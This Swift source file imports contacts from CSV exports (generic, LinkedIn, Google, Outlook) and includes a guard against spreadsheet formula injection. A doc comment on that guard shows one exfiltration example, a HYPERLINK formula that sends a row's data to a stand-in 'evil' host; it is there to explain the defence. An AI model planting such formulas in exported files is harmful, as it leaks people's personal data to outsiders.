import Foundation
import TendCore

/// Contacts from CSV files: any file with a header row, LinkedIn's Connections.csv, and Google
/// Contacts' export. `CSVRecords` reads the records; this maps columns to fields.
public enum CSVImport {
    /// Header names (normalised: lowercase, spaces and dashes as `_`) and the field each fills.
    static let aliases: [String: String] = [
        "name": "name", "full_name": "name", "display_name": "name", "fn": "name",
        "first_name": "first", "given_name": "first", "firstname": "first",
        "middle_name": "middle", "additional_name": "middle",
        "last_name": "last", "family_name": "last", "surname": "last", "lastname": "last",
        "email": "email", "e_mail": "email", "email_address": "email", "e_mail_address": "email",
        "phone": "phone", "mobile": "phone", "telephone": "phone", "phone_number": "phone",
        "company": "company", "organization": "company", "organisation": "company", "organization_1_name": "company",
        "organization_name": "company",
        "title": "title", "job_title": "title", "position": "title", "organization_1_title": "title", "organization_title": "title",
        "profession": "profession", "city": "city", "town": "city",
        "tags": "tags", "categories": "tags", "labels": "tags", "group_membership": "tags",
        "notes": "notes", "note": "notes", "met_at": "met_at", "met_on": "met_on", "connected_on": "met_on",
        "relationship": "relationship", "stage": "stage", "handle": "handle", "cadence": "cadence", "own_cadence": "cadence",
        "url": "url", "website_1_value": "url", "birthday": "birthday", "anniversary": "anniversary", "dates": "dates",
        // Outlook's and other address books' exports.
        "mobile_phone": "phone", "business_phone": "phone", "home_phone": "phone", "primary_phone": "phone",
        "work_phone": "phone", "cell": "phone", "cell_phone": "phone", "mobile_number": "phone",
        "business_city": "city", "home_city": "city", "work_city": "city", "location": "city",
        "work_email": "email", "home_email": "email", "primary_email": "email", "email_1": "email", "e_mail_1": "email",
        "email_address_1": "email",
        "company_name": "company", "employer": "company", "job": "title", "role": "title",
        "web_page": "url", "website": "url", "web_site": "url", "linkedin_url": "url", "profile_url": "url",
        "comments": "notes", "birth_date": "birthday", "date_of_birth": "birthday",
        // Names to go by when a record has no other (Google's and Outlook's exports).
        "nickname": "nickname", "file_as": "file_as",
        // Further e-mails and phones are the person's too, not notes.
        "email_2": "email", "email_3": "email", "secondary_email": "email", "other_email": "email",
        "other_phone": "phone", "home_phone_2": "phone", "business_phone_2": "phone",
        // Tend's own typed lists (`export csv`).
        "emails": "emails", "phones": "phones", "addresses": "addresses",
    ]

    /// Fields whose cells from several columns are all kept, in column order.
    static let gathered: [String: String] = ["tags": ";", "notes": ";", "email": ";", "phone": " ::: "]

    static func normalise(_ header: String) -> String {
        header.trimmed.lowercased().map { $0.isLetter || $0.isNumber ? $0 : "_" }
            .reduce(into: "") { s, c in if !(c == "_" && s.hasSuffix("_")) { s.append(c) } }
            .trimmingCharacters(in: CharacterSet(charactersIn: "_"))
    }

    public enum Flavor: Sendable { case generic, linkedin, google }

    /// Reads a CSV file. `mapping` overrides the header-to-field choice: `{"Full Name": "name"}`.
    /// A record that cannot be read is an error naming it and its line; a quote that is never
    /// closed is one too, for the rest of the file cannot be read either.
    public static func read(_ bytes: [UInt8], flavor: Flavor = .generic, mapping: [String: String] = [:]) throws -> ImportBatch {
        var batch = ImportBatch()
        let (text, warning) = try TextEncoding.text(bytes, what: "file")
        if let warning { batch.warnings.append(warning) }
        let utf8 = Array(text.utf8)
        let file = CSVRecords(utf8, delimiter: CSVRecords.delimiter(of: utf8))
        var start = 0
        if flavor == .linkedin {
            // LinkedIn puts a few note lines before the header row.
            guard let i = file.records.firstIndex(where: { $0.cells.first?.trimmed == "First Name" }) else {
                throw ImportError("file", "no header row starting with First Name: is this LinkedIn's Connections.csv?")
            }
            start = i
        }
        guard start < file.records.count, case let header = file.records[start].cells, header.contains(where: { !$0.trimmed.isEmpty }) else {
            if let u = file.unclosed { throw ImportError("line \(u.recordLine)", unclosedQuote(u.quoteLine)) }
            throw ImportError("line \(file.records.first?.line ?? 1)", "no header row")
        }
        let headerLine = file.records[start].line
        let fields = columns(header, flavor: flavor, mapping: mapping)
        guard fields.contains(where: { $0 == "name" || $0 == "first" || $0 == "last" }) else {
            throw ImportError(
                "line \(headerLine)", "the header has no name column (name, first name or last name); header: \(header.joined(separator: ", "))")
        }
        for (n, record) in file.records.dropFirst(start + 1).enumerated() {
            let origin = "record \(n + 1) (line \(record.line))"
            do {
                if let c = try contact(record.cells, header: header, fields: fields, origin: origin, flavor: flavor, warnings: &batch.warnings) {
                    batch.contacts.append(c)
                }
            } catch let e as ImportError where flavor == .linkedin && e.field == "name" {
                batch.warnings.append(ImportError(origin, "a connection with no name (hidden by them): skipped"))
            } catch let e as ImportError {
                batch.errors.append(e)
            }
        }
        if let u = file.unclosed {
            batch.errors.append(ImportError("record \(file.records.count - start) (line \(u.recordLine))", unclosedQuote(u.quoteLine)))
        }
        return batch
    }

    static func unclosedQuote(_ line: Int) -> String {
        "the quote that opens a cell on line \(line) is never closed, so the rest of the file cannot be read; close it or remove it"
    }

    /// The field each column fills (nil: none, its cells are kept as notes). A numbered column
    /// (`E-mail 2 - Value`) fills `NumberedColumn.field`.
    static func columns(_ header: [String], flavor: Flavor, mapping: [String: String]) -> [String?] {
        var fields: [String?] = header.map { h in
            if let m = mapping[h] ?? mapping[normalise(h)] { return m }
            let key = normalise(h)
            if let numbered = NumberedColumn(key) { return numbered.field }
            return aliases[key] ?? (ContactFields.byName[key] != nil ? key : nil)
        }
        // Outlook's export has both: its "Title" is the honorific (Mr., Ms.), kept in the notes.
        let keys = header.map(normalise)
        if keys.contains("job_title"), let honorific = keys.firstIndex(of: "title"), mapping[header[honorific]] == nil, mapping["title"] == nil {
            fields[honorific] = nil
        }
        if flavor == .google {
            // Google's header names several values per kind; the first of each wins.
            var seen = Set<String>()
            fields = fields.map { f in
                guard let f, gathered[f] == nil else { return f }
                return seen.insert(f).inserted ? f : nil
            }
        }
        return fields
    }

    /// One record as a contact; nil for a blank line. What had to be guessed is added to `warnings`.
    static func contact(
        _ row: [String], header: [String], fields: [String?], origin: String, flavor: Flavor, warnings: inout [ImportError]
    ) throws -> ImportedContact? {
        if row.allSatisfy({ $0.trimmed.isEmpty }) { return nil }
        if row.count > header.count, row[header.count...].contains(where: { !$0.isEmpty }) {
            throw ImportError(origin, "\(row.count) fields where the header has \(header.count)")
        }
        var values: [String: String] = [:]
        var numbered = NumberedColumn.Groups()
        var extras: [String] = []
        for (i, f) in fields.enumerated() where i < row.count {
            guard let f else {
                if !row[i].isEmpty { extras.append("\(header[i]): \(SpreadsheetCell.restored(row[i]))") }
                continue
            }
            let v = SpreadsheetCell.restored(row[i].trimmed)
            if v.isEmpty { continue }
            if let column = NumberedColumn(field: f) {
                numbered.add(v, column)
            } else if values[f] == nil {
                values[f] = v
            } else if let separator = gathered[f] {
                values[f]! += separator + v
            }
        }
        var c = try contact(values, numbered: numbered, origin: origin, flavor: flavor, warnings: &warnings)
        if flavor == .generic { c.notes += extras }
        return c
    }

    /// One record's cells (by field) as a contact. Tend's own columns read back exactly what
    /// `export csv` wrote: lists are `;`-separated with `\;` inside an item.
    static func contact(
        _ v: [String: String], numbered: NumberedColumn.Groups = .init(), origin: String, flavor: Flavor, warnings: inout [ImportError]
    ) throws -> ImportedContact {
        var name = v["name"] ?? [v["first"], v["middle"], v["last"]].compactMap { $0 }.joined(separator: " ")
        name = name.trimmed
        // LinkedIn lists members who hide their names: a company there is their employer, not a
        // card of the company's own (two such rows at one company are two people).
        if name.isEmpty && flavor == .linkedin { throw ImportError(origin, field: "name", "no name") }
        if name.isEmpty, let other = v["nickname"] ?? v["file_as"] { name = other.trimmed }
        if name.isEmpty {
            // As a card without a name: named by its company, e-mail or phone, and said so.
            let firstOf = { (text: String?) in
                text?.components(separatedBy: ":::").lazy.flatMap { $0.split(separator: ";") }.map(\.trimmed).first { !$0.isEmpty }
            }
            let by: (String, String)? =
                firstOf(v["company"]).map { ("company", $0) } ?? firstOf(v["email"]).map { ("e-mail", $0) }
                ?? numbered.emails.first.map { ("e-mail", $0.value) } ?? firstOf(v["phone"]).map { ("phone", $0) }
                ?? numbered.phones.first.map { ("phone", $0.value) }
            guard let (what, text) = by else { throw ImportError(origin, field: "name", "no name, company, e-mail or phone") }
            name = text
            warnings.append(ImportError(origin, "no name: named by its \(what), \(name)"))
        }
        var c = ImportedContact(origin: origin, name: name)
        if let nickname = v["nickname"]?.trimmed, !nickname.isEmpty, nickname != name { c.notes.append("nickname: \(nickname)") }
        c.givenName = v["first"]
        c.familyName = v["last"]
        if let e = v["emails"] {
            c.emails = ContactListText.points(e)
        } else if let e = v["email"] {
            for part in e.split(whereSeparator: { $0 == ";" || $0 == " " }) where part.contains("@") {
                VCard.add(ContactPoint(String(part)), to: &c.emails, preferred: false)
            }
            if c.emails.isEmpty { throw ImportError(origin, field: "email", "\"\(e)\" is not an e-mail address") }
        }
        if let p = v["phones"] {
            c.phones = ContactListText.points(p)
        } else if let p = v["phone"] {
            // Google puts several numbers in one cell: "+1 555 0100 ::: +1 555 0101".
            for number in p.components(separatedBy: ":::") { VCard.add(ContactPoint(number.trimmed), to: &c.phones, preferred: false) }
        }
        if let a = v["addresses"] {
            c.addresses = ContactListText.addresses(a)
        } else if let city = v["city"] {
            c.addresses = [PostalAddress(city: city)]
        }
        for e in numbered.emails { VCard.add(e, to: &c.emails, preferred: false) }
        for text in numbered.notAddresses { c.notes.append("e-mail: \(text)") }
        for p in numbered.phones { VCard.add(p, to: &c.phones, preferred: false) }
        for a in numbered.addresses where !c.addresses.contains(a) {
            // A city from a column of its own is the same address as a numbered one in that city.
            if let i = c.addresses.firstIndex(where: { $0 == PostalAddress(city: a.city) }) { c.addresses[i] = a } else { c.addresses.append(a) }
        }
        if let t = v["tags"], v["handle"] != nil {
            // A file with Tend's handle column keeps its tags as `export csv` wrote them.
            for item in ContactListText.tags(t) {
                let tag = writtenTag(item.trimmed)
                if !tag.isEmpty && !c.tags.contains(tag) { c.tags.append(tag) }
            }
        } else if let t = v["tags"] {
            for part in t.split(whereSeparator: { $0 == ";" || $0 == "," || $0 == "|" }) {
                // Google's labels look like "* myContacts ::: Friends".
                // Google's own groups start with "*"; "* myContacts" is every contact it keeps,
                // not a label of the user's (a tag of theirs called mycontacts is kept).
                for label in part.components(separatedBy: ":::") {
                    let text = label.trimmed
                    let bare = text.replacingOccurrences(of: "*", with: "").trimmed
                    guard !bare.isEmpty else { continue }
                    let tag = tagName(bare)
                    if text.hasPrefix("*"), tag == "mycontacts" { continue }
                    if !c.tags.contains(tag) { c.tags.append(tag) }
                }
            }
        }
        if let n = v["notes"] { c.notes.append(n) }
        if let u = v["url"] { c.notes.append("url: \(u)") }
        if let d = v["dates"] {
            let (dates, rest) = ContactListText.namedDates(d)
            c.dates = dates
            c.notes += rest.map { "date: \($0)" }
        }
        for f in ContactFields.all {
            guard let text = v[f.name] else { continue }
            if f.vcardProperty == "BDAY" || f.vcardProperty == "ANNIVERSARY" {
                // Outlook writes 0/0/00 for none; a date that is no date is kept as a note.
                if text.trimmed == "0/0/00" { continue }
                guard let d = parseDate(text) else {
                    c.notes.append("\(f.name): \(text)")
                    continue
                }
                c.fields[f.name] = .date(d)
                continue
            }
            try c.read(f.name, text, listSeparator: ";", label: f.name == "met_on" && flavor == .linkedin ? "Connected On" : nil)
        }
        if flavor == .linkedin && c.fields["met_at"] == nil { c[text: "met_at"] = "LinkedIn" }
        if let h = v["handle"] { c.handle = h.hasPrefix("@") ? String(h.dropFirst()) : h }
        return c
    }

    static let months = ["jan", "feb", "mar", "apr", "may", "jun", "jul", "aug", "sep", "oct", "nov", "dec"]

    /// `2023-11-24`, `24 Nov 2023` (LinkedIn), `11/24/2023`.
    public static func parseDate(_ s: String) -> Day? {
        let t = s.trimmed
        if let d = ImportantDate.parse(t) { return d }
        let parts = t.split(whereSeparator: { $0 == " " || $0 == "-" || $0 == "/" || $0 == "," }).map(String.init)
        guard parts.count == 3 else { return nil }
        if let m = months.firstIndex(of: String(parts[1].lowercased().prefix(3))), let d = Int(parts[0]), let y = Int(parts[2]) {
            return Day(year: y, month: m + 1, day: d)
        }
        if let m = months.firstIndex(of: String(parts[0].lowercased().prefix(3))), let d = Int(parts[1]), let y = Int(parts[2]) {
            return Day(year: y, month: m + 1, day: d)
        }
        if let m = Int(parts[0]), let d = Int(parts[1]), let y = Int(parts[2]), y > 999 { return Day(year: y, month: m, day: d) }
        return nil
    }
}

/// The spreadsheet-formula guard of CSV (and TSV) cells, and its exact inverse.
///
/// A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (or a tab or CR before one)
/// as a formula: `=HYPERLINK("http://evil/?"&A1)` would leak the row. Such a text cell is
/// written with a `'` before it, which spreadsheets show as text. So that import can undo
/// exactly that, a cell already starting with `'`s before such a character gets one more:
///
///     =1+1 → '=1+1        '=1+1 → ''=1+1        'Tis → 'Tis (unchanged)
public enum SpreadsheetCell {
    static func isTrigger(_ b: UInt8) -> Bool {
        b == UInt8(ascii: "=") || b == UInt8(ascii: "+") || b == UInt8(ascii: "-") || b == UInt8(ascii: "@") || b == 0x09 || b == 0x0D
    }

    /// True when the text is a run of `'`s (`quotes` or more) and then a trigger character.
    static func isGuarded(_ s: String, quotes: Int) -> Bool {
        var n = 0
        for b in s.utf8 {
            if b == UInt8(ascii: "'") {
                n += 1
            } else {
                return n >= quotes && isTrigger(b)
            }
        }
        return false
    }

    /// The cell as written: a formula-like text gets a leading `'`.
    public static func neutralised(_ s: String) -> String { isGuarded(s, quotes: 0) ? "'" + s : s }

    /// The cell as read back: the `'` that `neutralised` added is taken off.
    public static func restored(_ s: String) -> String { isGuarded(s, quotes: 1) ? String(s.dropFirst()) : s }
}

/// A column of a numbered group, as Google's and Outlook's exports write them: `E-mail 1 - Label`,
/// `E-mail 1 - Value`, `Phone 2 - Value`, `Address 1 - Street`, `E-mail 2 Address`. Each group is
/// one e-mail, phone or address with its kind.
struct NumberedColumn: Hashable {
    enum Kind: String { case email, phone, address }
    var kind: Kind
    var number: Int
    /// `value`, `label`, or an address's part (`street`, `city`, `postal_code` …).
    var part: String

    static let prefixes: [(String, Kind)] = [("e_mail_", .email), ("email_", .email), ("phone_", .phone), ("address_", .address)]
    static let parts: [Kind: Set<String>] = [
        .email: ["value", "address", "label", "type"],
        .phone: ["value", "number", "label", "type"],
        .address: ["label", "type", "formatted", "street", "city", "po_box", "region", "postal_code", "country", "extended_address"],
    ]

    /// Reads a normalised header (`e_mail_1_value`); nil when it is not a numbered column.
    init?(_ key: String) {
        guard let (prefix, kind) = NumberedColumn.prefixes.first(where: { key.hasPrefix($0.0) }) else { return nil }
        let rest = key.dropFirst(prefix.count)
        let digits = rest.prefix { $0.isASCII && $0.isNumber }
        guard !digits.isEmpty, let n = Int(digits), rest.dropFirst(digits.count).first == "_" else { return nil }
        let part = String(rest.dropFirst(digits.count + 1))
        guard NumberedColumn.parts[kind]!.contains(part) else { return nil }
        (self.kind, self.number, self.part) = (kind, n, part)
    }

    /// The column as a field name in a record's cells (`#email.1.value`), and back.
    var field: String { "#\(kind.rawValue).\(number).\(part)" }
    init?(field: String) {
        guard field.hasPrefix("#") else { return nil }
        let bits = field.dropFirst().split(separator: ".")
        guard bits.count == 3, let kind = Kind(rawValue: String(bits[0])), let n = Int(bits[1]) else { return nil }
        (self.kind, self.number, self.part) = (kind, n, String(bits[2]))
    }

    /// A label as a kind Tend knows (`* Work` → work, `Mobile` → mobile); nil for one of the
    /// user's own or none.
    static func type(_ label: String?) -> String? {
        guard let label else { return nil }
        let bare = label.replacingOccurrences(of: "*", with: "").trimmed.lowercased()
        switch bare {
        case "work", "business", "office": return "work"
        case "home", "personal": return "home"
        case "mobile", "cell", "iphone": return "mobile"
        case "other": return "other"
        default: return nil
        }
    }

    /// A record's numbered cells, gathered by group.
    struct Groups {
        private var cells: [Kind: [Int: [String: String]]] = [:]

        mutating func add(_ value: String, _ column: NumberedColumn) {
            cells[column.kind, default: [:]][column.number, default: [:]][column.part] = value
        }

        private func groups(_ kind: Kind) -> [[String: String]] {
            (cells[kind] ?? [:]).sorted { $0.key < $1.key }.map(\.value)
        }

        /// Several values in one cell are Google's "a ::: b".
        private func points(_ kind: Kind) -> [ContactPoint] {
            groups(kind).flatMap { g -> [ContactPoint] in
                let type = NumberedColumn.type(g["label"] ?? g["type"])
                let cell = g["value"] ?? g["address"] ?? g["number"] ?? ""
                return cell.components(separatedBy: ":::").map(\.trimmed).filter { !$0.isEmpty }.map { ContactPoint($0, type: type) }
            }
        }
        var emails: [ContactPoint] { points(.email).filter { $0.value.contains("@") } }
        /// E-mail cells that hold no address, kept as notes; Exchange's own X.500 names
        /// (`/o=ExchangeLabs/…`), which mean nothing outside it, are left out.
        var notAddresses: [String] { points(.email).map(\.value).filter { !$0.contains("@") && !$0.hasPrefix("/") } }
        var phones: [ContactPoint] { points(.phone) }
        /// Several addresses in one group are Google's "1 A St ::: 2 B St" in each part.
        var addresses: [PostalAddress] {
            groups(.address).flatMap { whole -> [[String: String]] in
                let split = whole.mapValues { $0.components(separatedBy: ":::").map(\.trimmed) }
                let count = split.values.map(\.count).max() ?? 0
                return (0..<count).map { i in split.compactMapValues { $0.count > i && !$0[i].isEmpty ? $0[i] : nil } }
            }.compactMap { g in
                let street = [g["street"], g["extended_address"], g["po_box"]].compactMap { $0 }.joined(separator: ", ")
                var a = PostalAddress(
                    street: street.isEmpty ? nil : street, city: g["city"], region: g["region"], postcode: g["postal_code"], country: g["country"],
                    type: NumberedColumn.type(g["label"] ?? g["type"]))
                // Only the formatted text: kept as the street, where a card keeps what it cannot split.
                if a.street == nil, a.city == nil, a.region == nil, a.postcode == nil, a.country == nil {
                    guard let formatted = g["formatted"] else { return nil }
                    a.street = formatted.replacingOccurrences(of: "\n", with: ", ")
                }
                return a
            }
        }
    }
}
